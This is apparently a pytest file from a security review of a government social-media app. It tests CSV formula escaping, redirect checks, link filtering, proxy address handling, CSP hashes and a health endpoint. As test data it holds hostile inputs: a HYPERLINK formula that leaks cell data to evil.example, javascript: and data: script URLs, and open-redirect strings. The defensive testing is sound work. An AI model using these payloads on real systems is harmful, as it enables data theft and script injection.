"""Security review (issue 13), the smaller items: CSV formula injection, safe_next, links from other servers, the
client address behind trusted proxies, the CSP's inline-script hashes, and the public health check."""

from __future__ import annotations

import asyncio
import csv
import gzip
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from sqlmodel import select

from govsocial_app import config
from govsocial_app.services import audit, auth, csv_export
from govsocial_app.services.links import web_link
from govsocial_app.state.login import safe_next

FORMULA_STARTS = ("=", "+", "-", "@", "|", "%", "\t", "\r", "\uff1d", "\uff0b", "\uff20")


def _would_run(cell: str) -> bool:
    """What a spreadsheet treats as a formula: a first character (after spaces) in FORMULA_STARTS, unless quoted with '."""
    stripped = cell.lstrip(" \u00a0\t\r\n")
    return not cell.startswith("'") and (cell[:1] in FORMULA_STARTS or stripped[:1] in FORMULA_STARTS) and not _plain_number(cell)


def _plain_number(cell: str) -> bool:
    try:
        float(cell.replace(",", ""))
        return True
    except ValueError:
        return False


def test_an_email_typed_on_the_sign_in_form_cannot_become_a_formula_in_the_audit_csv(db):
    evil = '=HYPERLINK("https://evil.example/?d="&A1,"Click")@x.gov'
    with pytest.raises(auth.AuthFailed):
        auth.sign_in(evil, "whatever password", "192.0.2.1")
    text = audit.export_csv(audit.AuditFilter())
    rows = list(csv.reader(io.StringIO(text)))
    actors = [r[2] for r in rows[1:]]
    assert any("hyperlink" in a.lower() for a in actors)
    assert not any(_would_run(cell) for row in rows for cell in row), rows


@example(" \r=1+1")  # found by Hypothesis: a space, a carriage return, then the formula
@given(st.text(min_size=1, max_size=40))
def test_no_exported_cell_can_run_as_a_formula(value):
    out = io.StringIO()
    csv_export.writer(out).writerow([value, " " + value])
    for cell in next(csv.reader(io.StringIO(out.getvalue()), strict=False), []):
        assert not _would_run(cell), repr(cell)


def test_ordinary_cells_and_numbers_are_left_alone():
    out = io.StringIO()
    csv_export.writer(out).writerow(["Flooding on Elm St", -3, 4.5, "-12", "a=b", ""])
    assert out.getvalue().strip() == "Flooding on Elm St,-3,4.5,-12,a=b,"


@pytest.mark.parametrize(
    "raw",
    ["/\\evil.com", "/\\/evil.com", "//evil.com", "/\t/evil.com", "/\n/evil.com", "https://evil.com", "evil.com", "/login?next=/x", ""],
)
def test_safe_next_refuses_every_way_off_the_site(raw):
    assert safe_next(raw) == "/inbox"


@pytest.mark.parametrize("raw", ["/publish", "/inbox?message=12&status=open", "/inbox?q=flood warning", "/reports/listening"])
def test_safe_next_keeps_same_site_paths(raw):
    assert safe_next(raw) == raw


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("https://mastodon.example/@ana/1", True),
        ("http://bsky.example/profile/x", True),
        ("javascript:alert(document.cookie)", False),
        ("JavaScript:alert(1)", False),
        (" javascript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox", False),
        ("/inbox?message=1", False),
        ("//evil.example/x", False),
        ("https:///nohost", False),
        ("https://x.example/\\evil", False),
        ("https://x.example/" + "a" * 600, False),
    ],
)
def test_links_from_other_servers_must_be_http_or_https(url, kept):
    assert web_link(url) == (url if kept else "")


def test_a_javascript_link_from_a_network_is_never_stored_or_shown(db):
    from datetime import datetime, timezone

    from connectors.base import Author, InboundMessage
    from govsocial_app.db.engine import session_scope
    from govsocial_app.db.models import Message
    from govsocial_app.services.inbox import ingest, stream

    msg = InboundMessage(network="mastodon", external_id="1", kind="mention", text="hello", created_at=datetime.now(timezone.utc),
                         author=Author(external_id="a", handle="@a@x.example", display_name="A", avatar_url="javascript:alert(1)"),
                         url="javascript:alert(document.domain)")
    with session_scope() as s:
        ingest.store(s, [msg], profile_id=None)
    with session_scope() as s:
        row = s.exec(select(Message)).one()
        assert row.url == "" and row.author_avatar_url == ""
        row.url = "javascript:alert(1)"  # a row stored before the check
        mid = row.id
    assert stream.detail(mid).url == ""


# ---------------------------------------------------------------- addresses behind proxies


@pytest.mark.parametrize(
    ("peer", "xff", "hops", "expected"),
    [
        ("127.0.0.1", "203.0.113.5", 0, "127.0.0.1"),  # no proxy trusted: the header is ignored
        ("127.0.0.1", "203.0.113.5", 1, "203.0.113.5"),
        ("127.0.0.1", "6.6.6.6, 203.0.113.5", 1, "203.0.113.5"),  # the client's own claim on the left is ignored
        ("10.0.0.2", "6.6.6.6, 203.0.113.5, 10.0.0.9", 2, "203.0.113.5"),
        ("127.0.0.1", "", 1, "127.0.0.1"),
    ],
)
def test_client_ip_trusts_only_the_configured_proxies(peer, xff, hops, expected):
    from govsocial_app.http_security import client_ip

    assert client_ip(peer, xff, hops) == expected


def test_the_apps_own_routes_see_the_browsers_address_behind_the_proxy(monkeypatch):
    seen = []

    async def app(scope, receive, send):
        seen.append(scope["client"][0])
        await send({"type": "http.response.start", "status": 204, "headers": []})
        await send({"type": "http.response.body", "body": b""})

    scope = {"type": "http", "client": ("127.0.0.1", 5555), "headers": [(b"x-forwarded-for", b"6.6.6.6, 203.0.113.5")]}
    _run(app, scope)
    monkeypatch.setenv("GOVSOCIAL_TRUSTED_PROXY_HOPS", "1")
    config.reset_settings_cache()
    try:
        _run(app, scope)
    finally:
        monkeypatch.delenv("GOVSOCIAL_TRUSTED_PROXY_HOPS")
        config.reset_settings_cache()
    assert seen == ["127.0.0.1", "203.0.113.5"]


def test_reflex_is_told_how_many_proxies_to_trust(monkeypatch):
    import importlib

    monkeypatch.setenv("GOVSOCIAL_TRUSTED_PROXY_HOPS", "1")
    config.reset_settings_cache()
    try:
        import rxconfig

        assert importlib.reload(rxconfig).config.trusted_proxy_hops == 1
        assert "*" not in rxconfig.config.cors_allowed_origins
    finally:
        monkeypatch.delenv("GOVSOCIAL_TRUSTED_PROXY_HOPS")
        config.reset_settings_cache()
        importlib.reload(rxconfig)


# ---------------------------------------------------------------- the CSP middleware


def _run(app, scope=None):
    from govsocial_app.http_security import SecurityHeaders

    sent = []

    async def send(message):
        sent.append(message)

    asyncio.run(SecurityHeaders(app)(scope or {"type": "http"}, None, send))
    return sent


def _html_app(body: bytes, headers=(), chunks=1):
    async def app(scope, receive, send):
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/html; charset=utf-8"), *headers]})
        step = max(1, len(body) // chunks)
        parts = [body[i:i + step] for i in range(0, len(body), step)] or [b""]
        for i, part in enumerate(parts):
            await send({"type": "http.response.body", "body": part, "more_body": i < len(parts) - 1})

    return app


def test_each_page_gets_the_hashes_of_exactly_its_inline_scripts():
    import base64
    import hashlib

    page = b'<html><script>window.a=1</script><script type="module">import "/x.js"</script><script src="/s.js"></script></html>'
    for body, headers in ((page, ()), (gzip.compress(page), ((b"content-encoding", b"gzip"),))):
        sent = _run(_html_app(body, headers, chunks=3))
        start = dict(sent[0]["headers"])
        policy = start[b"content-security-policy"].decode()
        for script in (b"window.a=1", b'import "/x.js"'):
            assert "'sha256-" + base64.b64encode(hashlib.sha256(script).digest()).decode() + "'" in policy
        assert policy.count("'sha256-") == 2 and "'unsafe-inline'" not in policy.split("style-src")[0]
        assert start[b"x-content-type-options"] == b"nosniff" and "frame-ancestors 'none'" in policy
        assert b"".join(m.get("body", b"") for m in sent[1:]) == body


def test_a_not_modified_answer_keeps_the_cached_pages_policy():
    """A browser revisiting a page gets 304 and keeps the page it cached; the 304's headers replace the cached ones, so
    a policy there (without that page's hashes: there is no body) would block the page's own scripts."""

    async def app(scope, receive, send):
        await send({"type": "http.response.start", "status": 304, "headers": [(b"content-type", b"text/html; charset=utf-8")]})
        await send({"type": "http.response.body", "body": b""})

    headers = dict(_run(app)[0]["headers"])
    assert b"content-security-policy" not in headers and headers[b"x-content-type-options"] == b"nosniff"


def test_a_policy_a_route_sets_itself_is_kept():
    async def app(scope, receive, send):
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-type", b"text/html"), (b"referrer-policy", b"no-referrer"), (b"content-security-policy", b"default-src 'none'")]})
        await send({"type": "http.response.body", "body": b"<p>hi</p>"})

    headers = dict(_run(app)[0]["headers"])
    assert headers[b"referrer-policy"] == b"no-referrer" and headers[b"content-security-policy"] == b"default-src 'none'"


# ---------------------------------------------------------------- /api/health


def _health(headers=None):
    from starlette.testclient import TestClient

    from govsocial_app.api import build_api

    return TestClient(build_api()).get("/api/health", headers=headers or {})


def test_the_public_health_check_shows_no_handles_errors_or_hosts(db, monkeypatch):
    from govsocial_app.db.engine import session_scope
    from govsocial_app.db.models import SocialProfile

    with session_scope() as s:
        s.add(SocialProfile(network="mastodon", handle="@secret_handle", last_error="token xyz refused by 10.0.0.5"))
    public = _health()
    assert public.json() == {"ok": True}  # up, and nothing else
    assert "secret_handle" not in public.text
    monkeypatch.setenv("GOVSOCIAL_HEALTH_TOKEN", "monitoring-token-123")
    config.reset_settings_cache()
    try:
        assert _health({"Authorization": "Bearer wrong"}).json() == {"ok": True}
        detailed = _health({"Authorization": "Bearer monitoring-token-123"}).json()
        assert detailed["profiles"][0]["handle"] == "@secret_handle" and "jobs" in detailed
    finally:
        monkeypatch.delenv("GOVSOCIAL_HEALTH_TOKEN")
        config.reset_settings_cache()
